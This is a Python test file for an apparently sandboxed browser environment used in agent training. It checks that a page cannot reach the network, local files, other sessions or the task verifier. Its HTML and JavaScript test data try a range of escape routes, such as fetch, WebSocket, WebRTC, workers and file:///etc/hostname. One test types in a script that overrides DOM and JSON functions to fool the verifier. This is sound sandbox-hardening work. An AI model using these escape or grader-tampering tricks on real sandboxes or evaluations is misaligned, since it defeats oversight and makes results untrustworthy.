"""The network, this machine's files, other pages and the verifier are out of reach from inside a page."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from processes import descendants

from vlrl.envs.gui.actions import Click, TypeText, Wait
from vlrl.envs.gui.web.chromium import browser, chrome
from vlrl.envs.gui.web.folder import WebFolder

Open = Callable[..., WebFolder]

ESCAPES = """<body><a id=out href="http://127.0.0.1:PORT/link" target=_blank>out</a>
<a id=file href="file:///etc/hostname" style="display:block">file</a>
<link rel=dns-prefetch href="http://localhost:PORT/"><link rel=preconnect href="http://127.0.0.1:PORT/">
<link rel=stylesheet href="http://127.0.0.1:PORT/style.css"><img src="http://localhost:PORT/i.png">
<iframe src="http://127.0.0.1:PORT/frame"></iframe><iframe id=local src="file:///etc/hostname"></iframe>
<script>
  const outside = "127.0.0.1:PORT", tried = {};
  const note = (name, promise) => promise.then(() => tried[name] = "REACHED", () => tried[name] = "refused");
  for (const scheme of ["http", "https"]) note(scheme, fetch(`${scheme}://${outside}/`, { mode: "no-cors" }));
  note("file", fetch("file:///etc/hostname"));
  note("script", fetch("page.task.js").then((reply) => { if (!reply.ok) throw 0; }));
  note("post", fetch("/page.html", { method: "POST", body: "secret" }));
  const socket = new WebSocket(`ws://${outside}/`);
  note("socket", new Promise((yes, no) => { socket.onopen = yes; socket.onerror = no; }));
  navigator.sendBeacon(`http://${outside}/beacon`, "x");
  tried.popup = window.open(`http://${outside}/popup`) ? "opened" : "refused";
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${outside}` }, { urls: `turn:${outside}`,
    username: "u", credential: "c" }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  const work = `fetch("http://${outside}/worker", {mode: "no-cors"}).then(() => postMessage("REACHED"),
    () => postMessage("refused")); new WebSocket("ws://${outside}/worker");`;
  const worker = new Worker(URL.createObjectURL(new Blob([work])));
  worker.onmessage = (event) => tried.worker = event.data;
  note("service", navigator.serviceWorker.register("/service.js"));
  note("transport", new WebTransport(`https://${outside}/`).ready);
</script>"""


@pytest.fixture
def outside() -> Iterator[tuple[int, list[str]]]:
    """A port of this machine that stands for the world, and who came there, by TCP or UDP."""
    came: list[str] = []
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
    ):
        port = int(tcp.getsockname()[1])
        udp.bind(("127.0.0.1", port))
        tcp.settimeout(0.2)
        udp.settimeout(0.2)
        done = threading.Event()

        def listen(name: str, take: Callable[[], object]) -> None:
            while not done.is_set():
                try:
                    take()
                except TimeoutError:
                    continue
                came.append(name)

        threads = [
            threading.Thread(target=listen, args=("tcp", tcp.accept)),
            threading.Thread(target=listen, args=("udp", lambda: udp.recv(100))),
        ]
        for thread in threads:
            thread.start()
        yield port, came
        done.set()
        for thread in threads:
            thread.join()


@pytest.fixture(params=["boxed", "bare"])
def walls(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Run with the sandbox, and where there is none: the gate and the browser's flags hold by themselves."""
    if request.param == "bare":
        browser.close_idle()
        monkeypatch.setattr(chrome, "_why_no_box", lambda: "this test is without")
    yield request.param
    browser.close_idle()


@pytest.mark.filterwarnings("ignore:the browser's sandbox")
def test_a_page_gets_nowhere(walls: str, outside: tuple[int, list[str]], open_page: Open) -> None:
    port, came = outside
    web = open_page(ESCAPES.replace("PORT", str(port)), sandbox="warn")
    for link in ("out", "file"):
        box = next(e.box for e in web.elements() if e.name == link)
        web.perform(Click((box[0] + 4, box[1] + 4)))
        if link == "out":
            tried = web.page.evaluate(
                "new Promise((done) => { const look = () => Object.keys(tried).length > 9 && tried.worker ?"
                " done(tried) : window[Symbol.for('vlrl')].settle(16, 16).then(look);"
                " look(); })"
            )
    web.perform(Wait(500))
    assert "REACHED" not in tried.values(), tried
    assert {tried[how] for how in ("popup", "worker", "service", "transport")} == {"refused"}
    shown = web.page.evaluate(
        "document.documentElement.outerHTML + (window.local?.contentDocument?.body.innerText ?? '')"
    )
    assert socket.gethostname() not in shown.replace("hostname", "")
    assert came == []


def test_inside_the_box_there_is_no_network_and_no_home(open_page: Open) -> None:
    open_page("<p>x</p>")
    shared = browser.running()[0]
    inside = descendants(shared.pid)
    assert len(inside) > 4
    for pid in inside[2:]:
        devices = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
        assert [line.split(":")[0].strip() for line in devices] == ["lo"]
        for path in ("root", "home", "etc/hostname", "etc/passwd", "var"):
            with suppress(ProcessLookupError):  # the browser's own sandbox: its pages have no files at all
                assert not Path(f"/proc/{pid}/root/{path}").exists()


def test_environments_do_not_see_each_other(
    open_page: Open, tmp_path_factory: pytest.TempPathFactory
) -> None:
    page = """<script>
      const found = [localStorage.length, document.cookie, sessionStorage.length];
      localStorage.x = 1; document.cookie = "x=1; max-age=9999"; sessionStorage.x = 1;
      indexedDB.open("x"); found.push(indexedDB.databases ? 1 : 0);
      const channel = new BroadcastChannel("x"); let heard = 0; channel.onmessage = () => heard++;
    </script>"""
    web = open_page(page)
    assert web.page.evaluate("found.slice(0, 3)") == [0, "", 0]
    folder = tmp_path_factory.mktemp("other")
    (folder / "page.html").write_text(f"<!DOCTYPE html>{page}")
    (folder / "page.task.js").write_text("({goal: '', verdict: () => ({milestones: {x: false}})})")
    other = WebFolder(str(folder), size=(320, 240))
    other.reset({}, 0)
    other.page.evaluate("channel.postMessage('hello')")
    assert other.page.evaluate("found.slice(0, 3)") == [0, "", 0]
    web.perform(Wait(100))
    assert web.page.evaluate("heard") == 0
    other.close()
    web.reset({}, 0)  # nor does an episode the one before it
    assert web.page.evaluate("found.slice(0, 3)") == [0, "", 0]


def test_the_verifier_is_out_of_the_pages_reach(open_page: Open) -> None:
    """A page that runs what is typed into it, and overrides everything that a verifier would call."""
    task = """({
      plan: (random) => ({ secret: "s" + Math.floor(random() * 1e9) }),
      goal: "Type the secret.",
      verdict: (plan) => ({ milestones: { told: document.querySelector("#t").value === plan.secret } }),
    })"""
    web = open_page("<input id=t autofocus><script>t.onchange = () => eval(t.value)</script>", task)
    attack = (
        "Document.prototype.querySelector = document.querySelector = () => ({value: 'x'});"
        "String.prototype.valueOf = () => 'x'; Object.prototype.secret = 'x'; globalThis.vlrlTask = null;"
        "JSON.parse = JSON.stringify = () => 'x';"
        "HTMLInputElement.prototype.__defineGetter__('value', () => 'x');"
        "document.body.title = Object.keys(window).join() + [...document.scripts].map((s) => s.text).join()\n"
    )
    web.perform(Click((20, 15)))
    web.perform(TypeText(attack))
    assert "t" in web.page.evaluate("document.body.title")  # it did run
    verdict = web.verdict()
    assert not verdict.success
    assert "secret" not in web.page.evaluate("document.body.title").replace("s.text", "")
